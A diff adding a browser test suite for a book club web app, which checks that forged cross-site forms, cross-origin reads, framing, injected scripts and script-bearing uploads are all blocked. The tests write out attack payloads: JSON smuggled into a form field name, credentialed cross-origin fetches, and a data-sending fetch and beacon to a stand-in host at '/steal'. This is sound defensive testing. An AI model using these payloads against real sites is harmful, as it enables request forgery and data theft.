@@ -1,0 +1,303 @@
+import { Database } from "bun:sqlite";
+import { afterAll, beforeAll, expect, test } from "bun:test";
+import { join } from "node:path";
+
+import type { BrowserContext, Frame, Page } from "playwright-core";
+
+import { openBrowser } from "#tests/support/browser.ts";
+import { ADMIN_PASSWORD, type RunningClub, startClub } from "#tests/support/executable.ts";
+import { m4b } from "#tests/support/m4b.ts";
+import { png } from "#tests/support/pictures.ts";
+import { sessionCookie } from "#tests/support/screens.ts";
+
+let club: RunningClub;
+let context: BrowserContext;
+let cover = "";
+const browser = await openBrowser();
+/** What came to the other web site. */
+const reached: string[] = [];
+/** Somebody else's web site: on the club's own host at another port, and at another host. */
+const stranger = Bun.serve({
+  port: 0,
+  hostname: "127.0.0.1",
+  fetch: (request) => {
+    reached.push(new URL(request.url).pathname);
+    return new Response("<!doctype html><title>elsewhere</title><body>", { headers: { "content-type": "text/html" } });
+  },
+});
+const elsewhere = ["127.0.0.1", "localhost"].map((host) => `http://${host}:${stranger.port}/`);
+
+beforeAll(async () => {
+  club = await startClub();
+  await club.makeAdmin();
+  const cookie = await sessionCookie(club.url, "ada", ADMIN_PASSWORD);
+  const headers = { cookie: `session=${cookie.value}` };
+  const call = async (path: string, body: BodyInit, type?: string) => {
+    const answer = await fetch(club.url + path, {
+      method: "POST",
+      body,
+      headers: { ...headers, ...(type && { "content-type": type }) },
+    });
+    if (!answer.ok) throw new Error(await answer.text());
+    return (await answer.json()) as { id: number; url: string };
+  };
+  const book = { title: "Emma", author: "Jane Austen", synopsis: "", month: "2026-01", isbn: "", coverImage: null };
+  const fields = { ...book, audiobookNarrator: "", audiobookDuration: "" };
+  const { id } = await call("/api/books", JSON.stringify(fields), "application/json");
+  const file = (kind: string, name: string, bytes: Uint8Array) => {
+    const form = new FormData();
+    form.set("bookId", String(id));
+    form.set(kind, new File([new Uint8Array(bytes)], name));
+    return call(`/api/upload/${kind}`, form);
+  };
+  await file("audiobook", "emma.m4b", m4b({ seconds: 20 }));
+  cover = (await file("cover", "emma.png", await png())).url;
+  await call("/api/posts", JSON.stringify({ content: "A ripe Brie" }), "application/json");
+  const page = await browser.page({ club });
+  context = page.context();
+  // the worst case: a session that the browser would send along from anywhere
+  await context.addCookies([cookie, { ...cookie, url: club.url.replace("127.0.0.1", "localhost") }]);
+  await page.close();
+}, 60_000);
+afterAll(async () => {
+  await browser.close();
+  await club.stop();
+  await stranger.stop(true);
+});
+
+/** A page of the other site, in the browser of somebody who is signed in at the club. */
+async function visit(address: string): Promise<Page> {
+  const page = await context.newPage();
+  await page.goto(address);
+  return page;
+}
+
+/** All that the database holds, but for when people were last seen. */
+function stored(): string {
+  const db = new Database(join(club.storageDir, "bookclub.db"), { readonly: true });
+  const tables = db
+    .query<{ name: string }, []>("SELECT name FROM sqlite_schema WHERE type = 'table' ORDER BY name")
+    .all();
+  const rows = tables.map(({ name }) => [name, db.query(`SELECT * FROM "${name}"`).all()]);
+  db.close();
+  return JSON.stringify(rows, (key, value: unknown) =>
+    key === "lastSeenAt" || key === "last_seen_at" || value instanceof Uint8Array ? String(value) : value,
+  );
+}
+
+const FORM_CALLS = [
+  "/api/auth/login",
+  "/api/auth/register",
+  "/api/auth/logout",
+  "/api/posts",
+  "/api/posts/restore",
+  "/api/books",
+  "/api/profile/password",
+  "/api/profile/photo",
+  "/api/upload/cover",
+  "/api/upload/ebook",
+  "/api/invitations",
+  "/api/email/test",
+  "/api/email/trigger-monthly",
+];
+const ENCODINGS = ["application/x-www-form-urlencoded", "multipart/form-data", "text/plain"];
+
+test("forms of another site change nothing, however they are sent and whoever is signed in (C01)", async () => {
+  const before = stored();
+  expect(before).toContain("A ripe Brie");
+  const statuses: [string, number][] = [];
+  for (const address of elsewhere) {
+    const page = await visit(address);
+    page.on("response", (answer) => {
+      if (answer.request().method() === "POST") statuses.push([`${new URL(answer.url()).pathname}`, answer.status()]);
+    });
+    const forms = FORM_CALLS.flatMap((path) => ENCODINGS.map((encoding) => ({ action: club.url + path, encoding })));
+    const all = statuses.length + forms.length;
+    await page.evaluate((forms) => {
+      for (const [index, { action, encoding }] of forms.entries()) {
+        const frame = Object.assign(document.createElement("iframe"), { name: `frame${index}` });
+        const form = Object.assign(document.createElement("form"), { method: "post", action, target: frame.name });
+        form.enctype = encoding;
+        // as text/plain this is JSON
+        const name = '{"content":"Bought ads","username":"eve","email":"eve@example.org","password":"secret","x":"';
+        form.append(Object.assign(document.createElement("input"), { name, value: '"}' }));
+        form.append(Object.assign(document.createElement("input"), { name: "username", value: "ada" }));
+        document.body.append(frame, form);
+        form.submit();
+      }
+    }, forms);
+    for (let tries = 0; tries < 200 && statuses.length < all; tries += 1) await Bun.sleep(50);
+    await page.close();
+  }
+  expect(statuses).toHaveLength(elsewhere.length * FORM_CALLS.length * ENCODINGS.length);
+  expect(statuses.filter(([, status]) => status !== 403 && status !== 415)).toEqual([]);
+  expect(stored()).toBe(before);
+}, 120_000);
+
+test("scripts of another site read nothing and change nothing (C01, X03)", async () => {
+  const before = stored();
+  for (const address of elsewhere) {
+    const page = await visit(address);
+    const read = await page.evaluate(async (club) => {
+      const calls: [string, RequestInit][] = [
+        ["/api/auth/user", {}],
+        ["/api/posts", {}],
+        ["/api/content", {}],
+        ["/api/users", {}],
+        ["/api/health", {}],
+        ["/", {}],
+        ["/api/download/audiobook/1", { headers: { Range: "bytes=0-9" } }],
+        ["/api/posts", { method: "POST", body: '{"content":"Ads"}', headers: { "Content-Type": "application/json" } }],
+        ["/api/posts", { method: "DELETE" }],
+        ["/api/content", { method: "PATCH", body: '{"welcomeMessage":"Ads"}' }],
+        ["/api/auth/logout", { method: "POST" }],
+      ];
+      const seen: string[] = [];
+      for (const [path, init] of calls)
+        await fetch(club + path, { ...init, credentials: "include" }).then(
+          async (answer) => seen.push(`${path}: ${await answer.text()}`),
+          () => undefined,
+        );
+      for (const mode of ["no-cors"] as const)
+        for (const [path, init] of calls) {
+          const answer = await fetch(club + path, { ...init, headers: {}, credentials: "include", mode }).catch(
+            () => null,
+          );
+          if (answer && (answer.type !== "opaque" || answer.status !== 0)) seen.push(`${path}: ${answer.type}`);
+        }
+      return seen;
+    }, club.url);
+    expect(read).toEqual([]);
+    await page.close();
+  }
+  expect(stored()).toBe(before);
+});
+
+test("pictures and sound are not shown or played on another site (X03)", async () => {
+  for (const address of elsewhere) {
+    const page = await visit(address);
+    const seen = await page.evaluate(
+      async ({ pictures, sound }) => {
+        const outcome = (part: HTMLElement, good: string) =>
+          new Promise<string>((resolve) => {
+            part.addEventListener(good, () => resolve("seen"));
+            part.addEventListener("error", () => resolve("nothing"));
+          });
+        const image = document.createElement("img");
+        const audio = document.createElement("audio");
+        const waiting = [outcome(image, "load"), outcome(audio, "loadedmetadata")];
+        image.src = pictures;
+        audio.src = sound;
+        return Promise.all(waiting);
+      },
+      { pictures: club.url + cover, sound: `${club.url}/api/download/audiobook/1` },
+    );
+    expect(seen, address).toEqual(["nothing", "nothing"]);
+    await page.close();
+  }
+  const own = await visit(`${club.url}/`);
+  const shown = await own.evaluate(
+    (address) =>
+      new Promise<string>((resolve) => {
+        const image = document.createElement("img");
+        image.addEventListener("load", () => resolve("seen"));
+        image.addEventListener("error", () => resolve("nothing"));
+        image.src = address;
+      }),
+    cover,
+  );
+  expect(shown).toBe("seen");
+  await own.close();
+});
+
+test("the club is not shown in a frame of another site, nor anything of it (X03)", async () => {
+  for (const address of elsewhere) {
+    const page = await visit(address);
+    for (const path of ["/", "/auth", "/admin", cover, "/api/posts", "/api/calendar/meeting.ics"]) {
+      const frame = await framed(page, club.url + path);
+      const text = await frame.evaluate(() => document.body?.textContent ?? "").catch(() => "");
+      expect(text, path).not.toMatch(/Synopses|Username|Brie|BEGIN/);
+      expect(frame.url(), path).toStartWith("chrome-error://");
+    }
+    await page.close();
+  }
+});
+
+/** Puts an address into a frame of the page, and waits until the browser has made something of it. */
+async function framed(page: Page, address: string): Promise<Frame> {
+  const made = page.waitForEvent("framenavigated", (frame) => frame !== page.mainFrame());
+  await page.evaluate((address) => {
+    const frame = document.createElement("iframe");
+    frame.src = address;
+    document.body.append(frame);
+  }, address);
+  return made;
+}
+
+test("what is injected into a page of the club does not run and is not fetched (X02)", async () => {
+  const page = await visit(`${club.url}/`);
+  await page.getByRole("heading", { name: "Snacks & Drinks Board" }).waitFor();
+  reached.length = 0;
+  const outcome = await page.evaluate(async (foreign) => {
+    const broken: string[] = [];
+    document.addEventListener("securitypolicyviolation", (event) => broken.push(event.effectiveDirective));
+    const script = document.createElement("script");
+    script.textContent = "window.ran = true";
+    const remote = Object.assign(document.createElement("script"), { src: `${foreign}x.js` });
+    const image = Object.assign(document.createElement("img"), { src: `${foreign}x.png` });
+    const frame = Object.assign(document.createElement("iframe"), { src: foreign });
+    const style = Object.assign(document.createElement("link"), { rel: "stylesheet", href: `${foreign}x.css` });
+    const object = Object.assign(document.createElement("object"), { data: `${foreign}x.swf` });
+    const base = Object.assign(document.createElement("base"), { href: foreign });
+    document.body.append(script, remote, image, frame, style, object);
+    document.head.append(base);
+    const handler = document.createElement("div");
+    handler.innerHTML = '<b onclick="window.ran = true">x</b><a href="javascript:window.ran = true">y</a>';
+    document.body.append(handler);
+    for (const part of handler.querySelectorAll<HTMLElement>("b, a")) part.click();
+    const form = Object.assign(document.createElement("form"), { action: foreign, method: "post" });
+    document.body.append(form);
+    form.submit();
+    await fetch(`${foreign}steal`, { method: "POST", body: "x" }).catch(() => undefined);
+    navigator.sendBeacon(`${foreign}beacon`, "x");
+    await new Promise((resolve) => setTimeout(resolve, 300));
+    return { broken: [...new Set(broken)].toSorted(), ran: "ran" in globalThis, base: document.baseURI };
+  }, elsewhere[0] ?? "");
+  expect(outcome.ran).toBe(false);
+  expect(outcome.base).toStartWith(club.url);
+  expect(reached).toEqual([]);
+  expect(outcome.broken).toEqual([
+    "base-uri",
+    "connect-src",
+    "form-action",
+    "frame-src",
+    "img-src",
+    "object-src",
+    "script-src-attr",
+    "script-src-elem",
+    "style-src-elem",
+  ]);
+  await page.close();
+});
+
+test("a cover's own address gives a picture and nothing that runs (X03)", async () => {
+  const page = await context.newPage();
+  const answer = await page.goto(club.url + cover);
+  expect(answer?.headers()).toMatchObject({ "content-type": "image/webp", "x-content-type-options": "nosniff" });
+  expect(await page.evaluate(() => document.querySelectorAll("script, svg").length)).toBe(0);
+  for (const [name, bytes] of [
+    ["cover.svg", `<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`],
+    ["cover.png", "<!doctype html><script>alert(1)</script>"],
+  ] as const) {
+    const refused = await page.evaluate(
+      async ({ name, bytes }) => {
+        const form = new FormData();
+        form.set("cover", new File([bytes], name, { type: "image/png" }));
+        return (await fetch("/api/upload/cover", { method: "POST", body: form })).status;
+      },
+      { name, bytes },
+    );
+    expect(refused).toBe(415);
+  }
+  await page.close();
+});
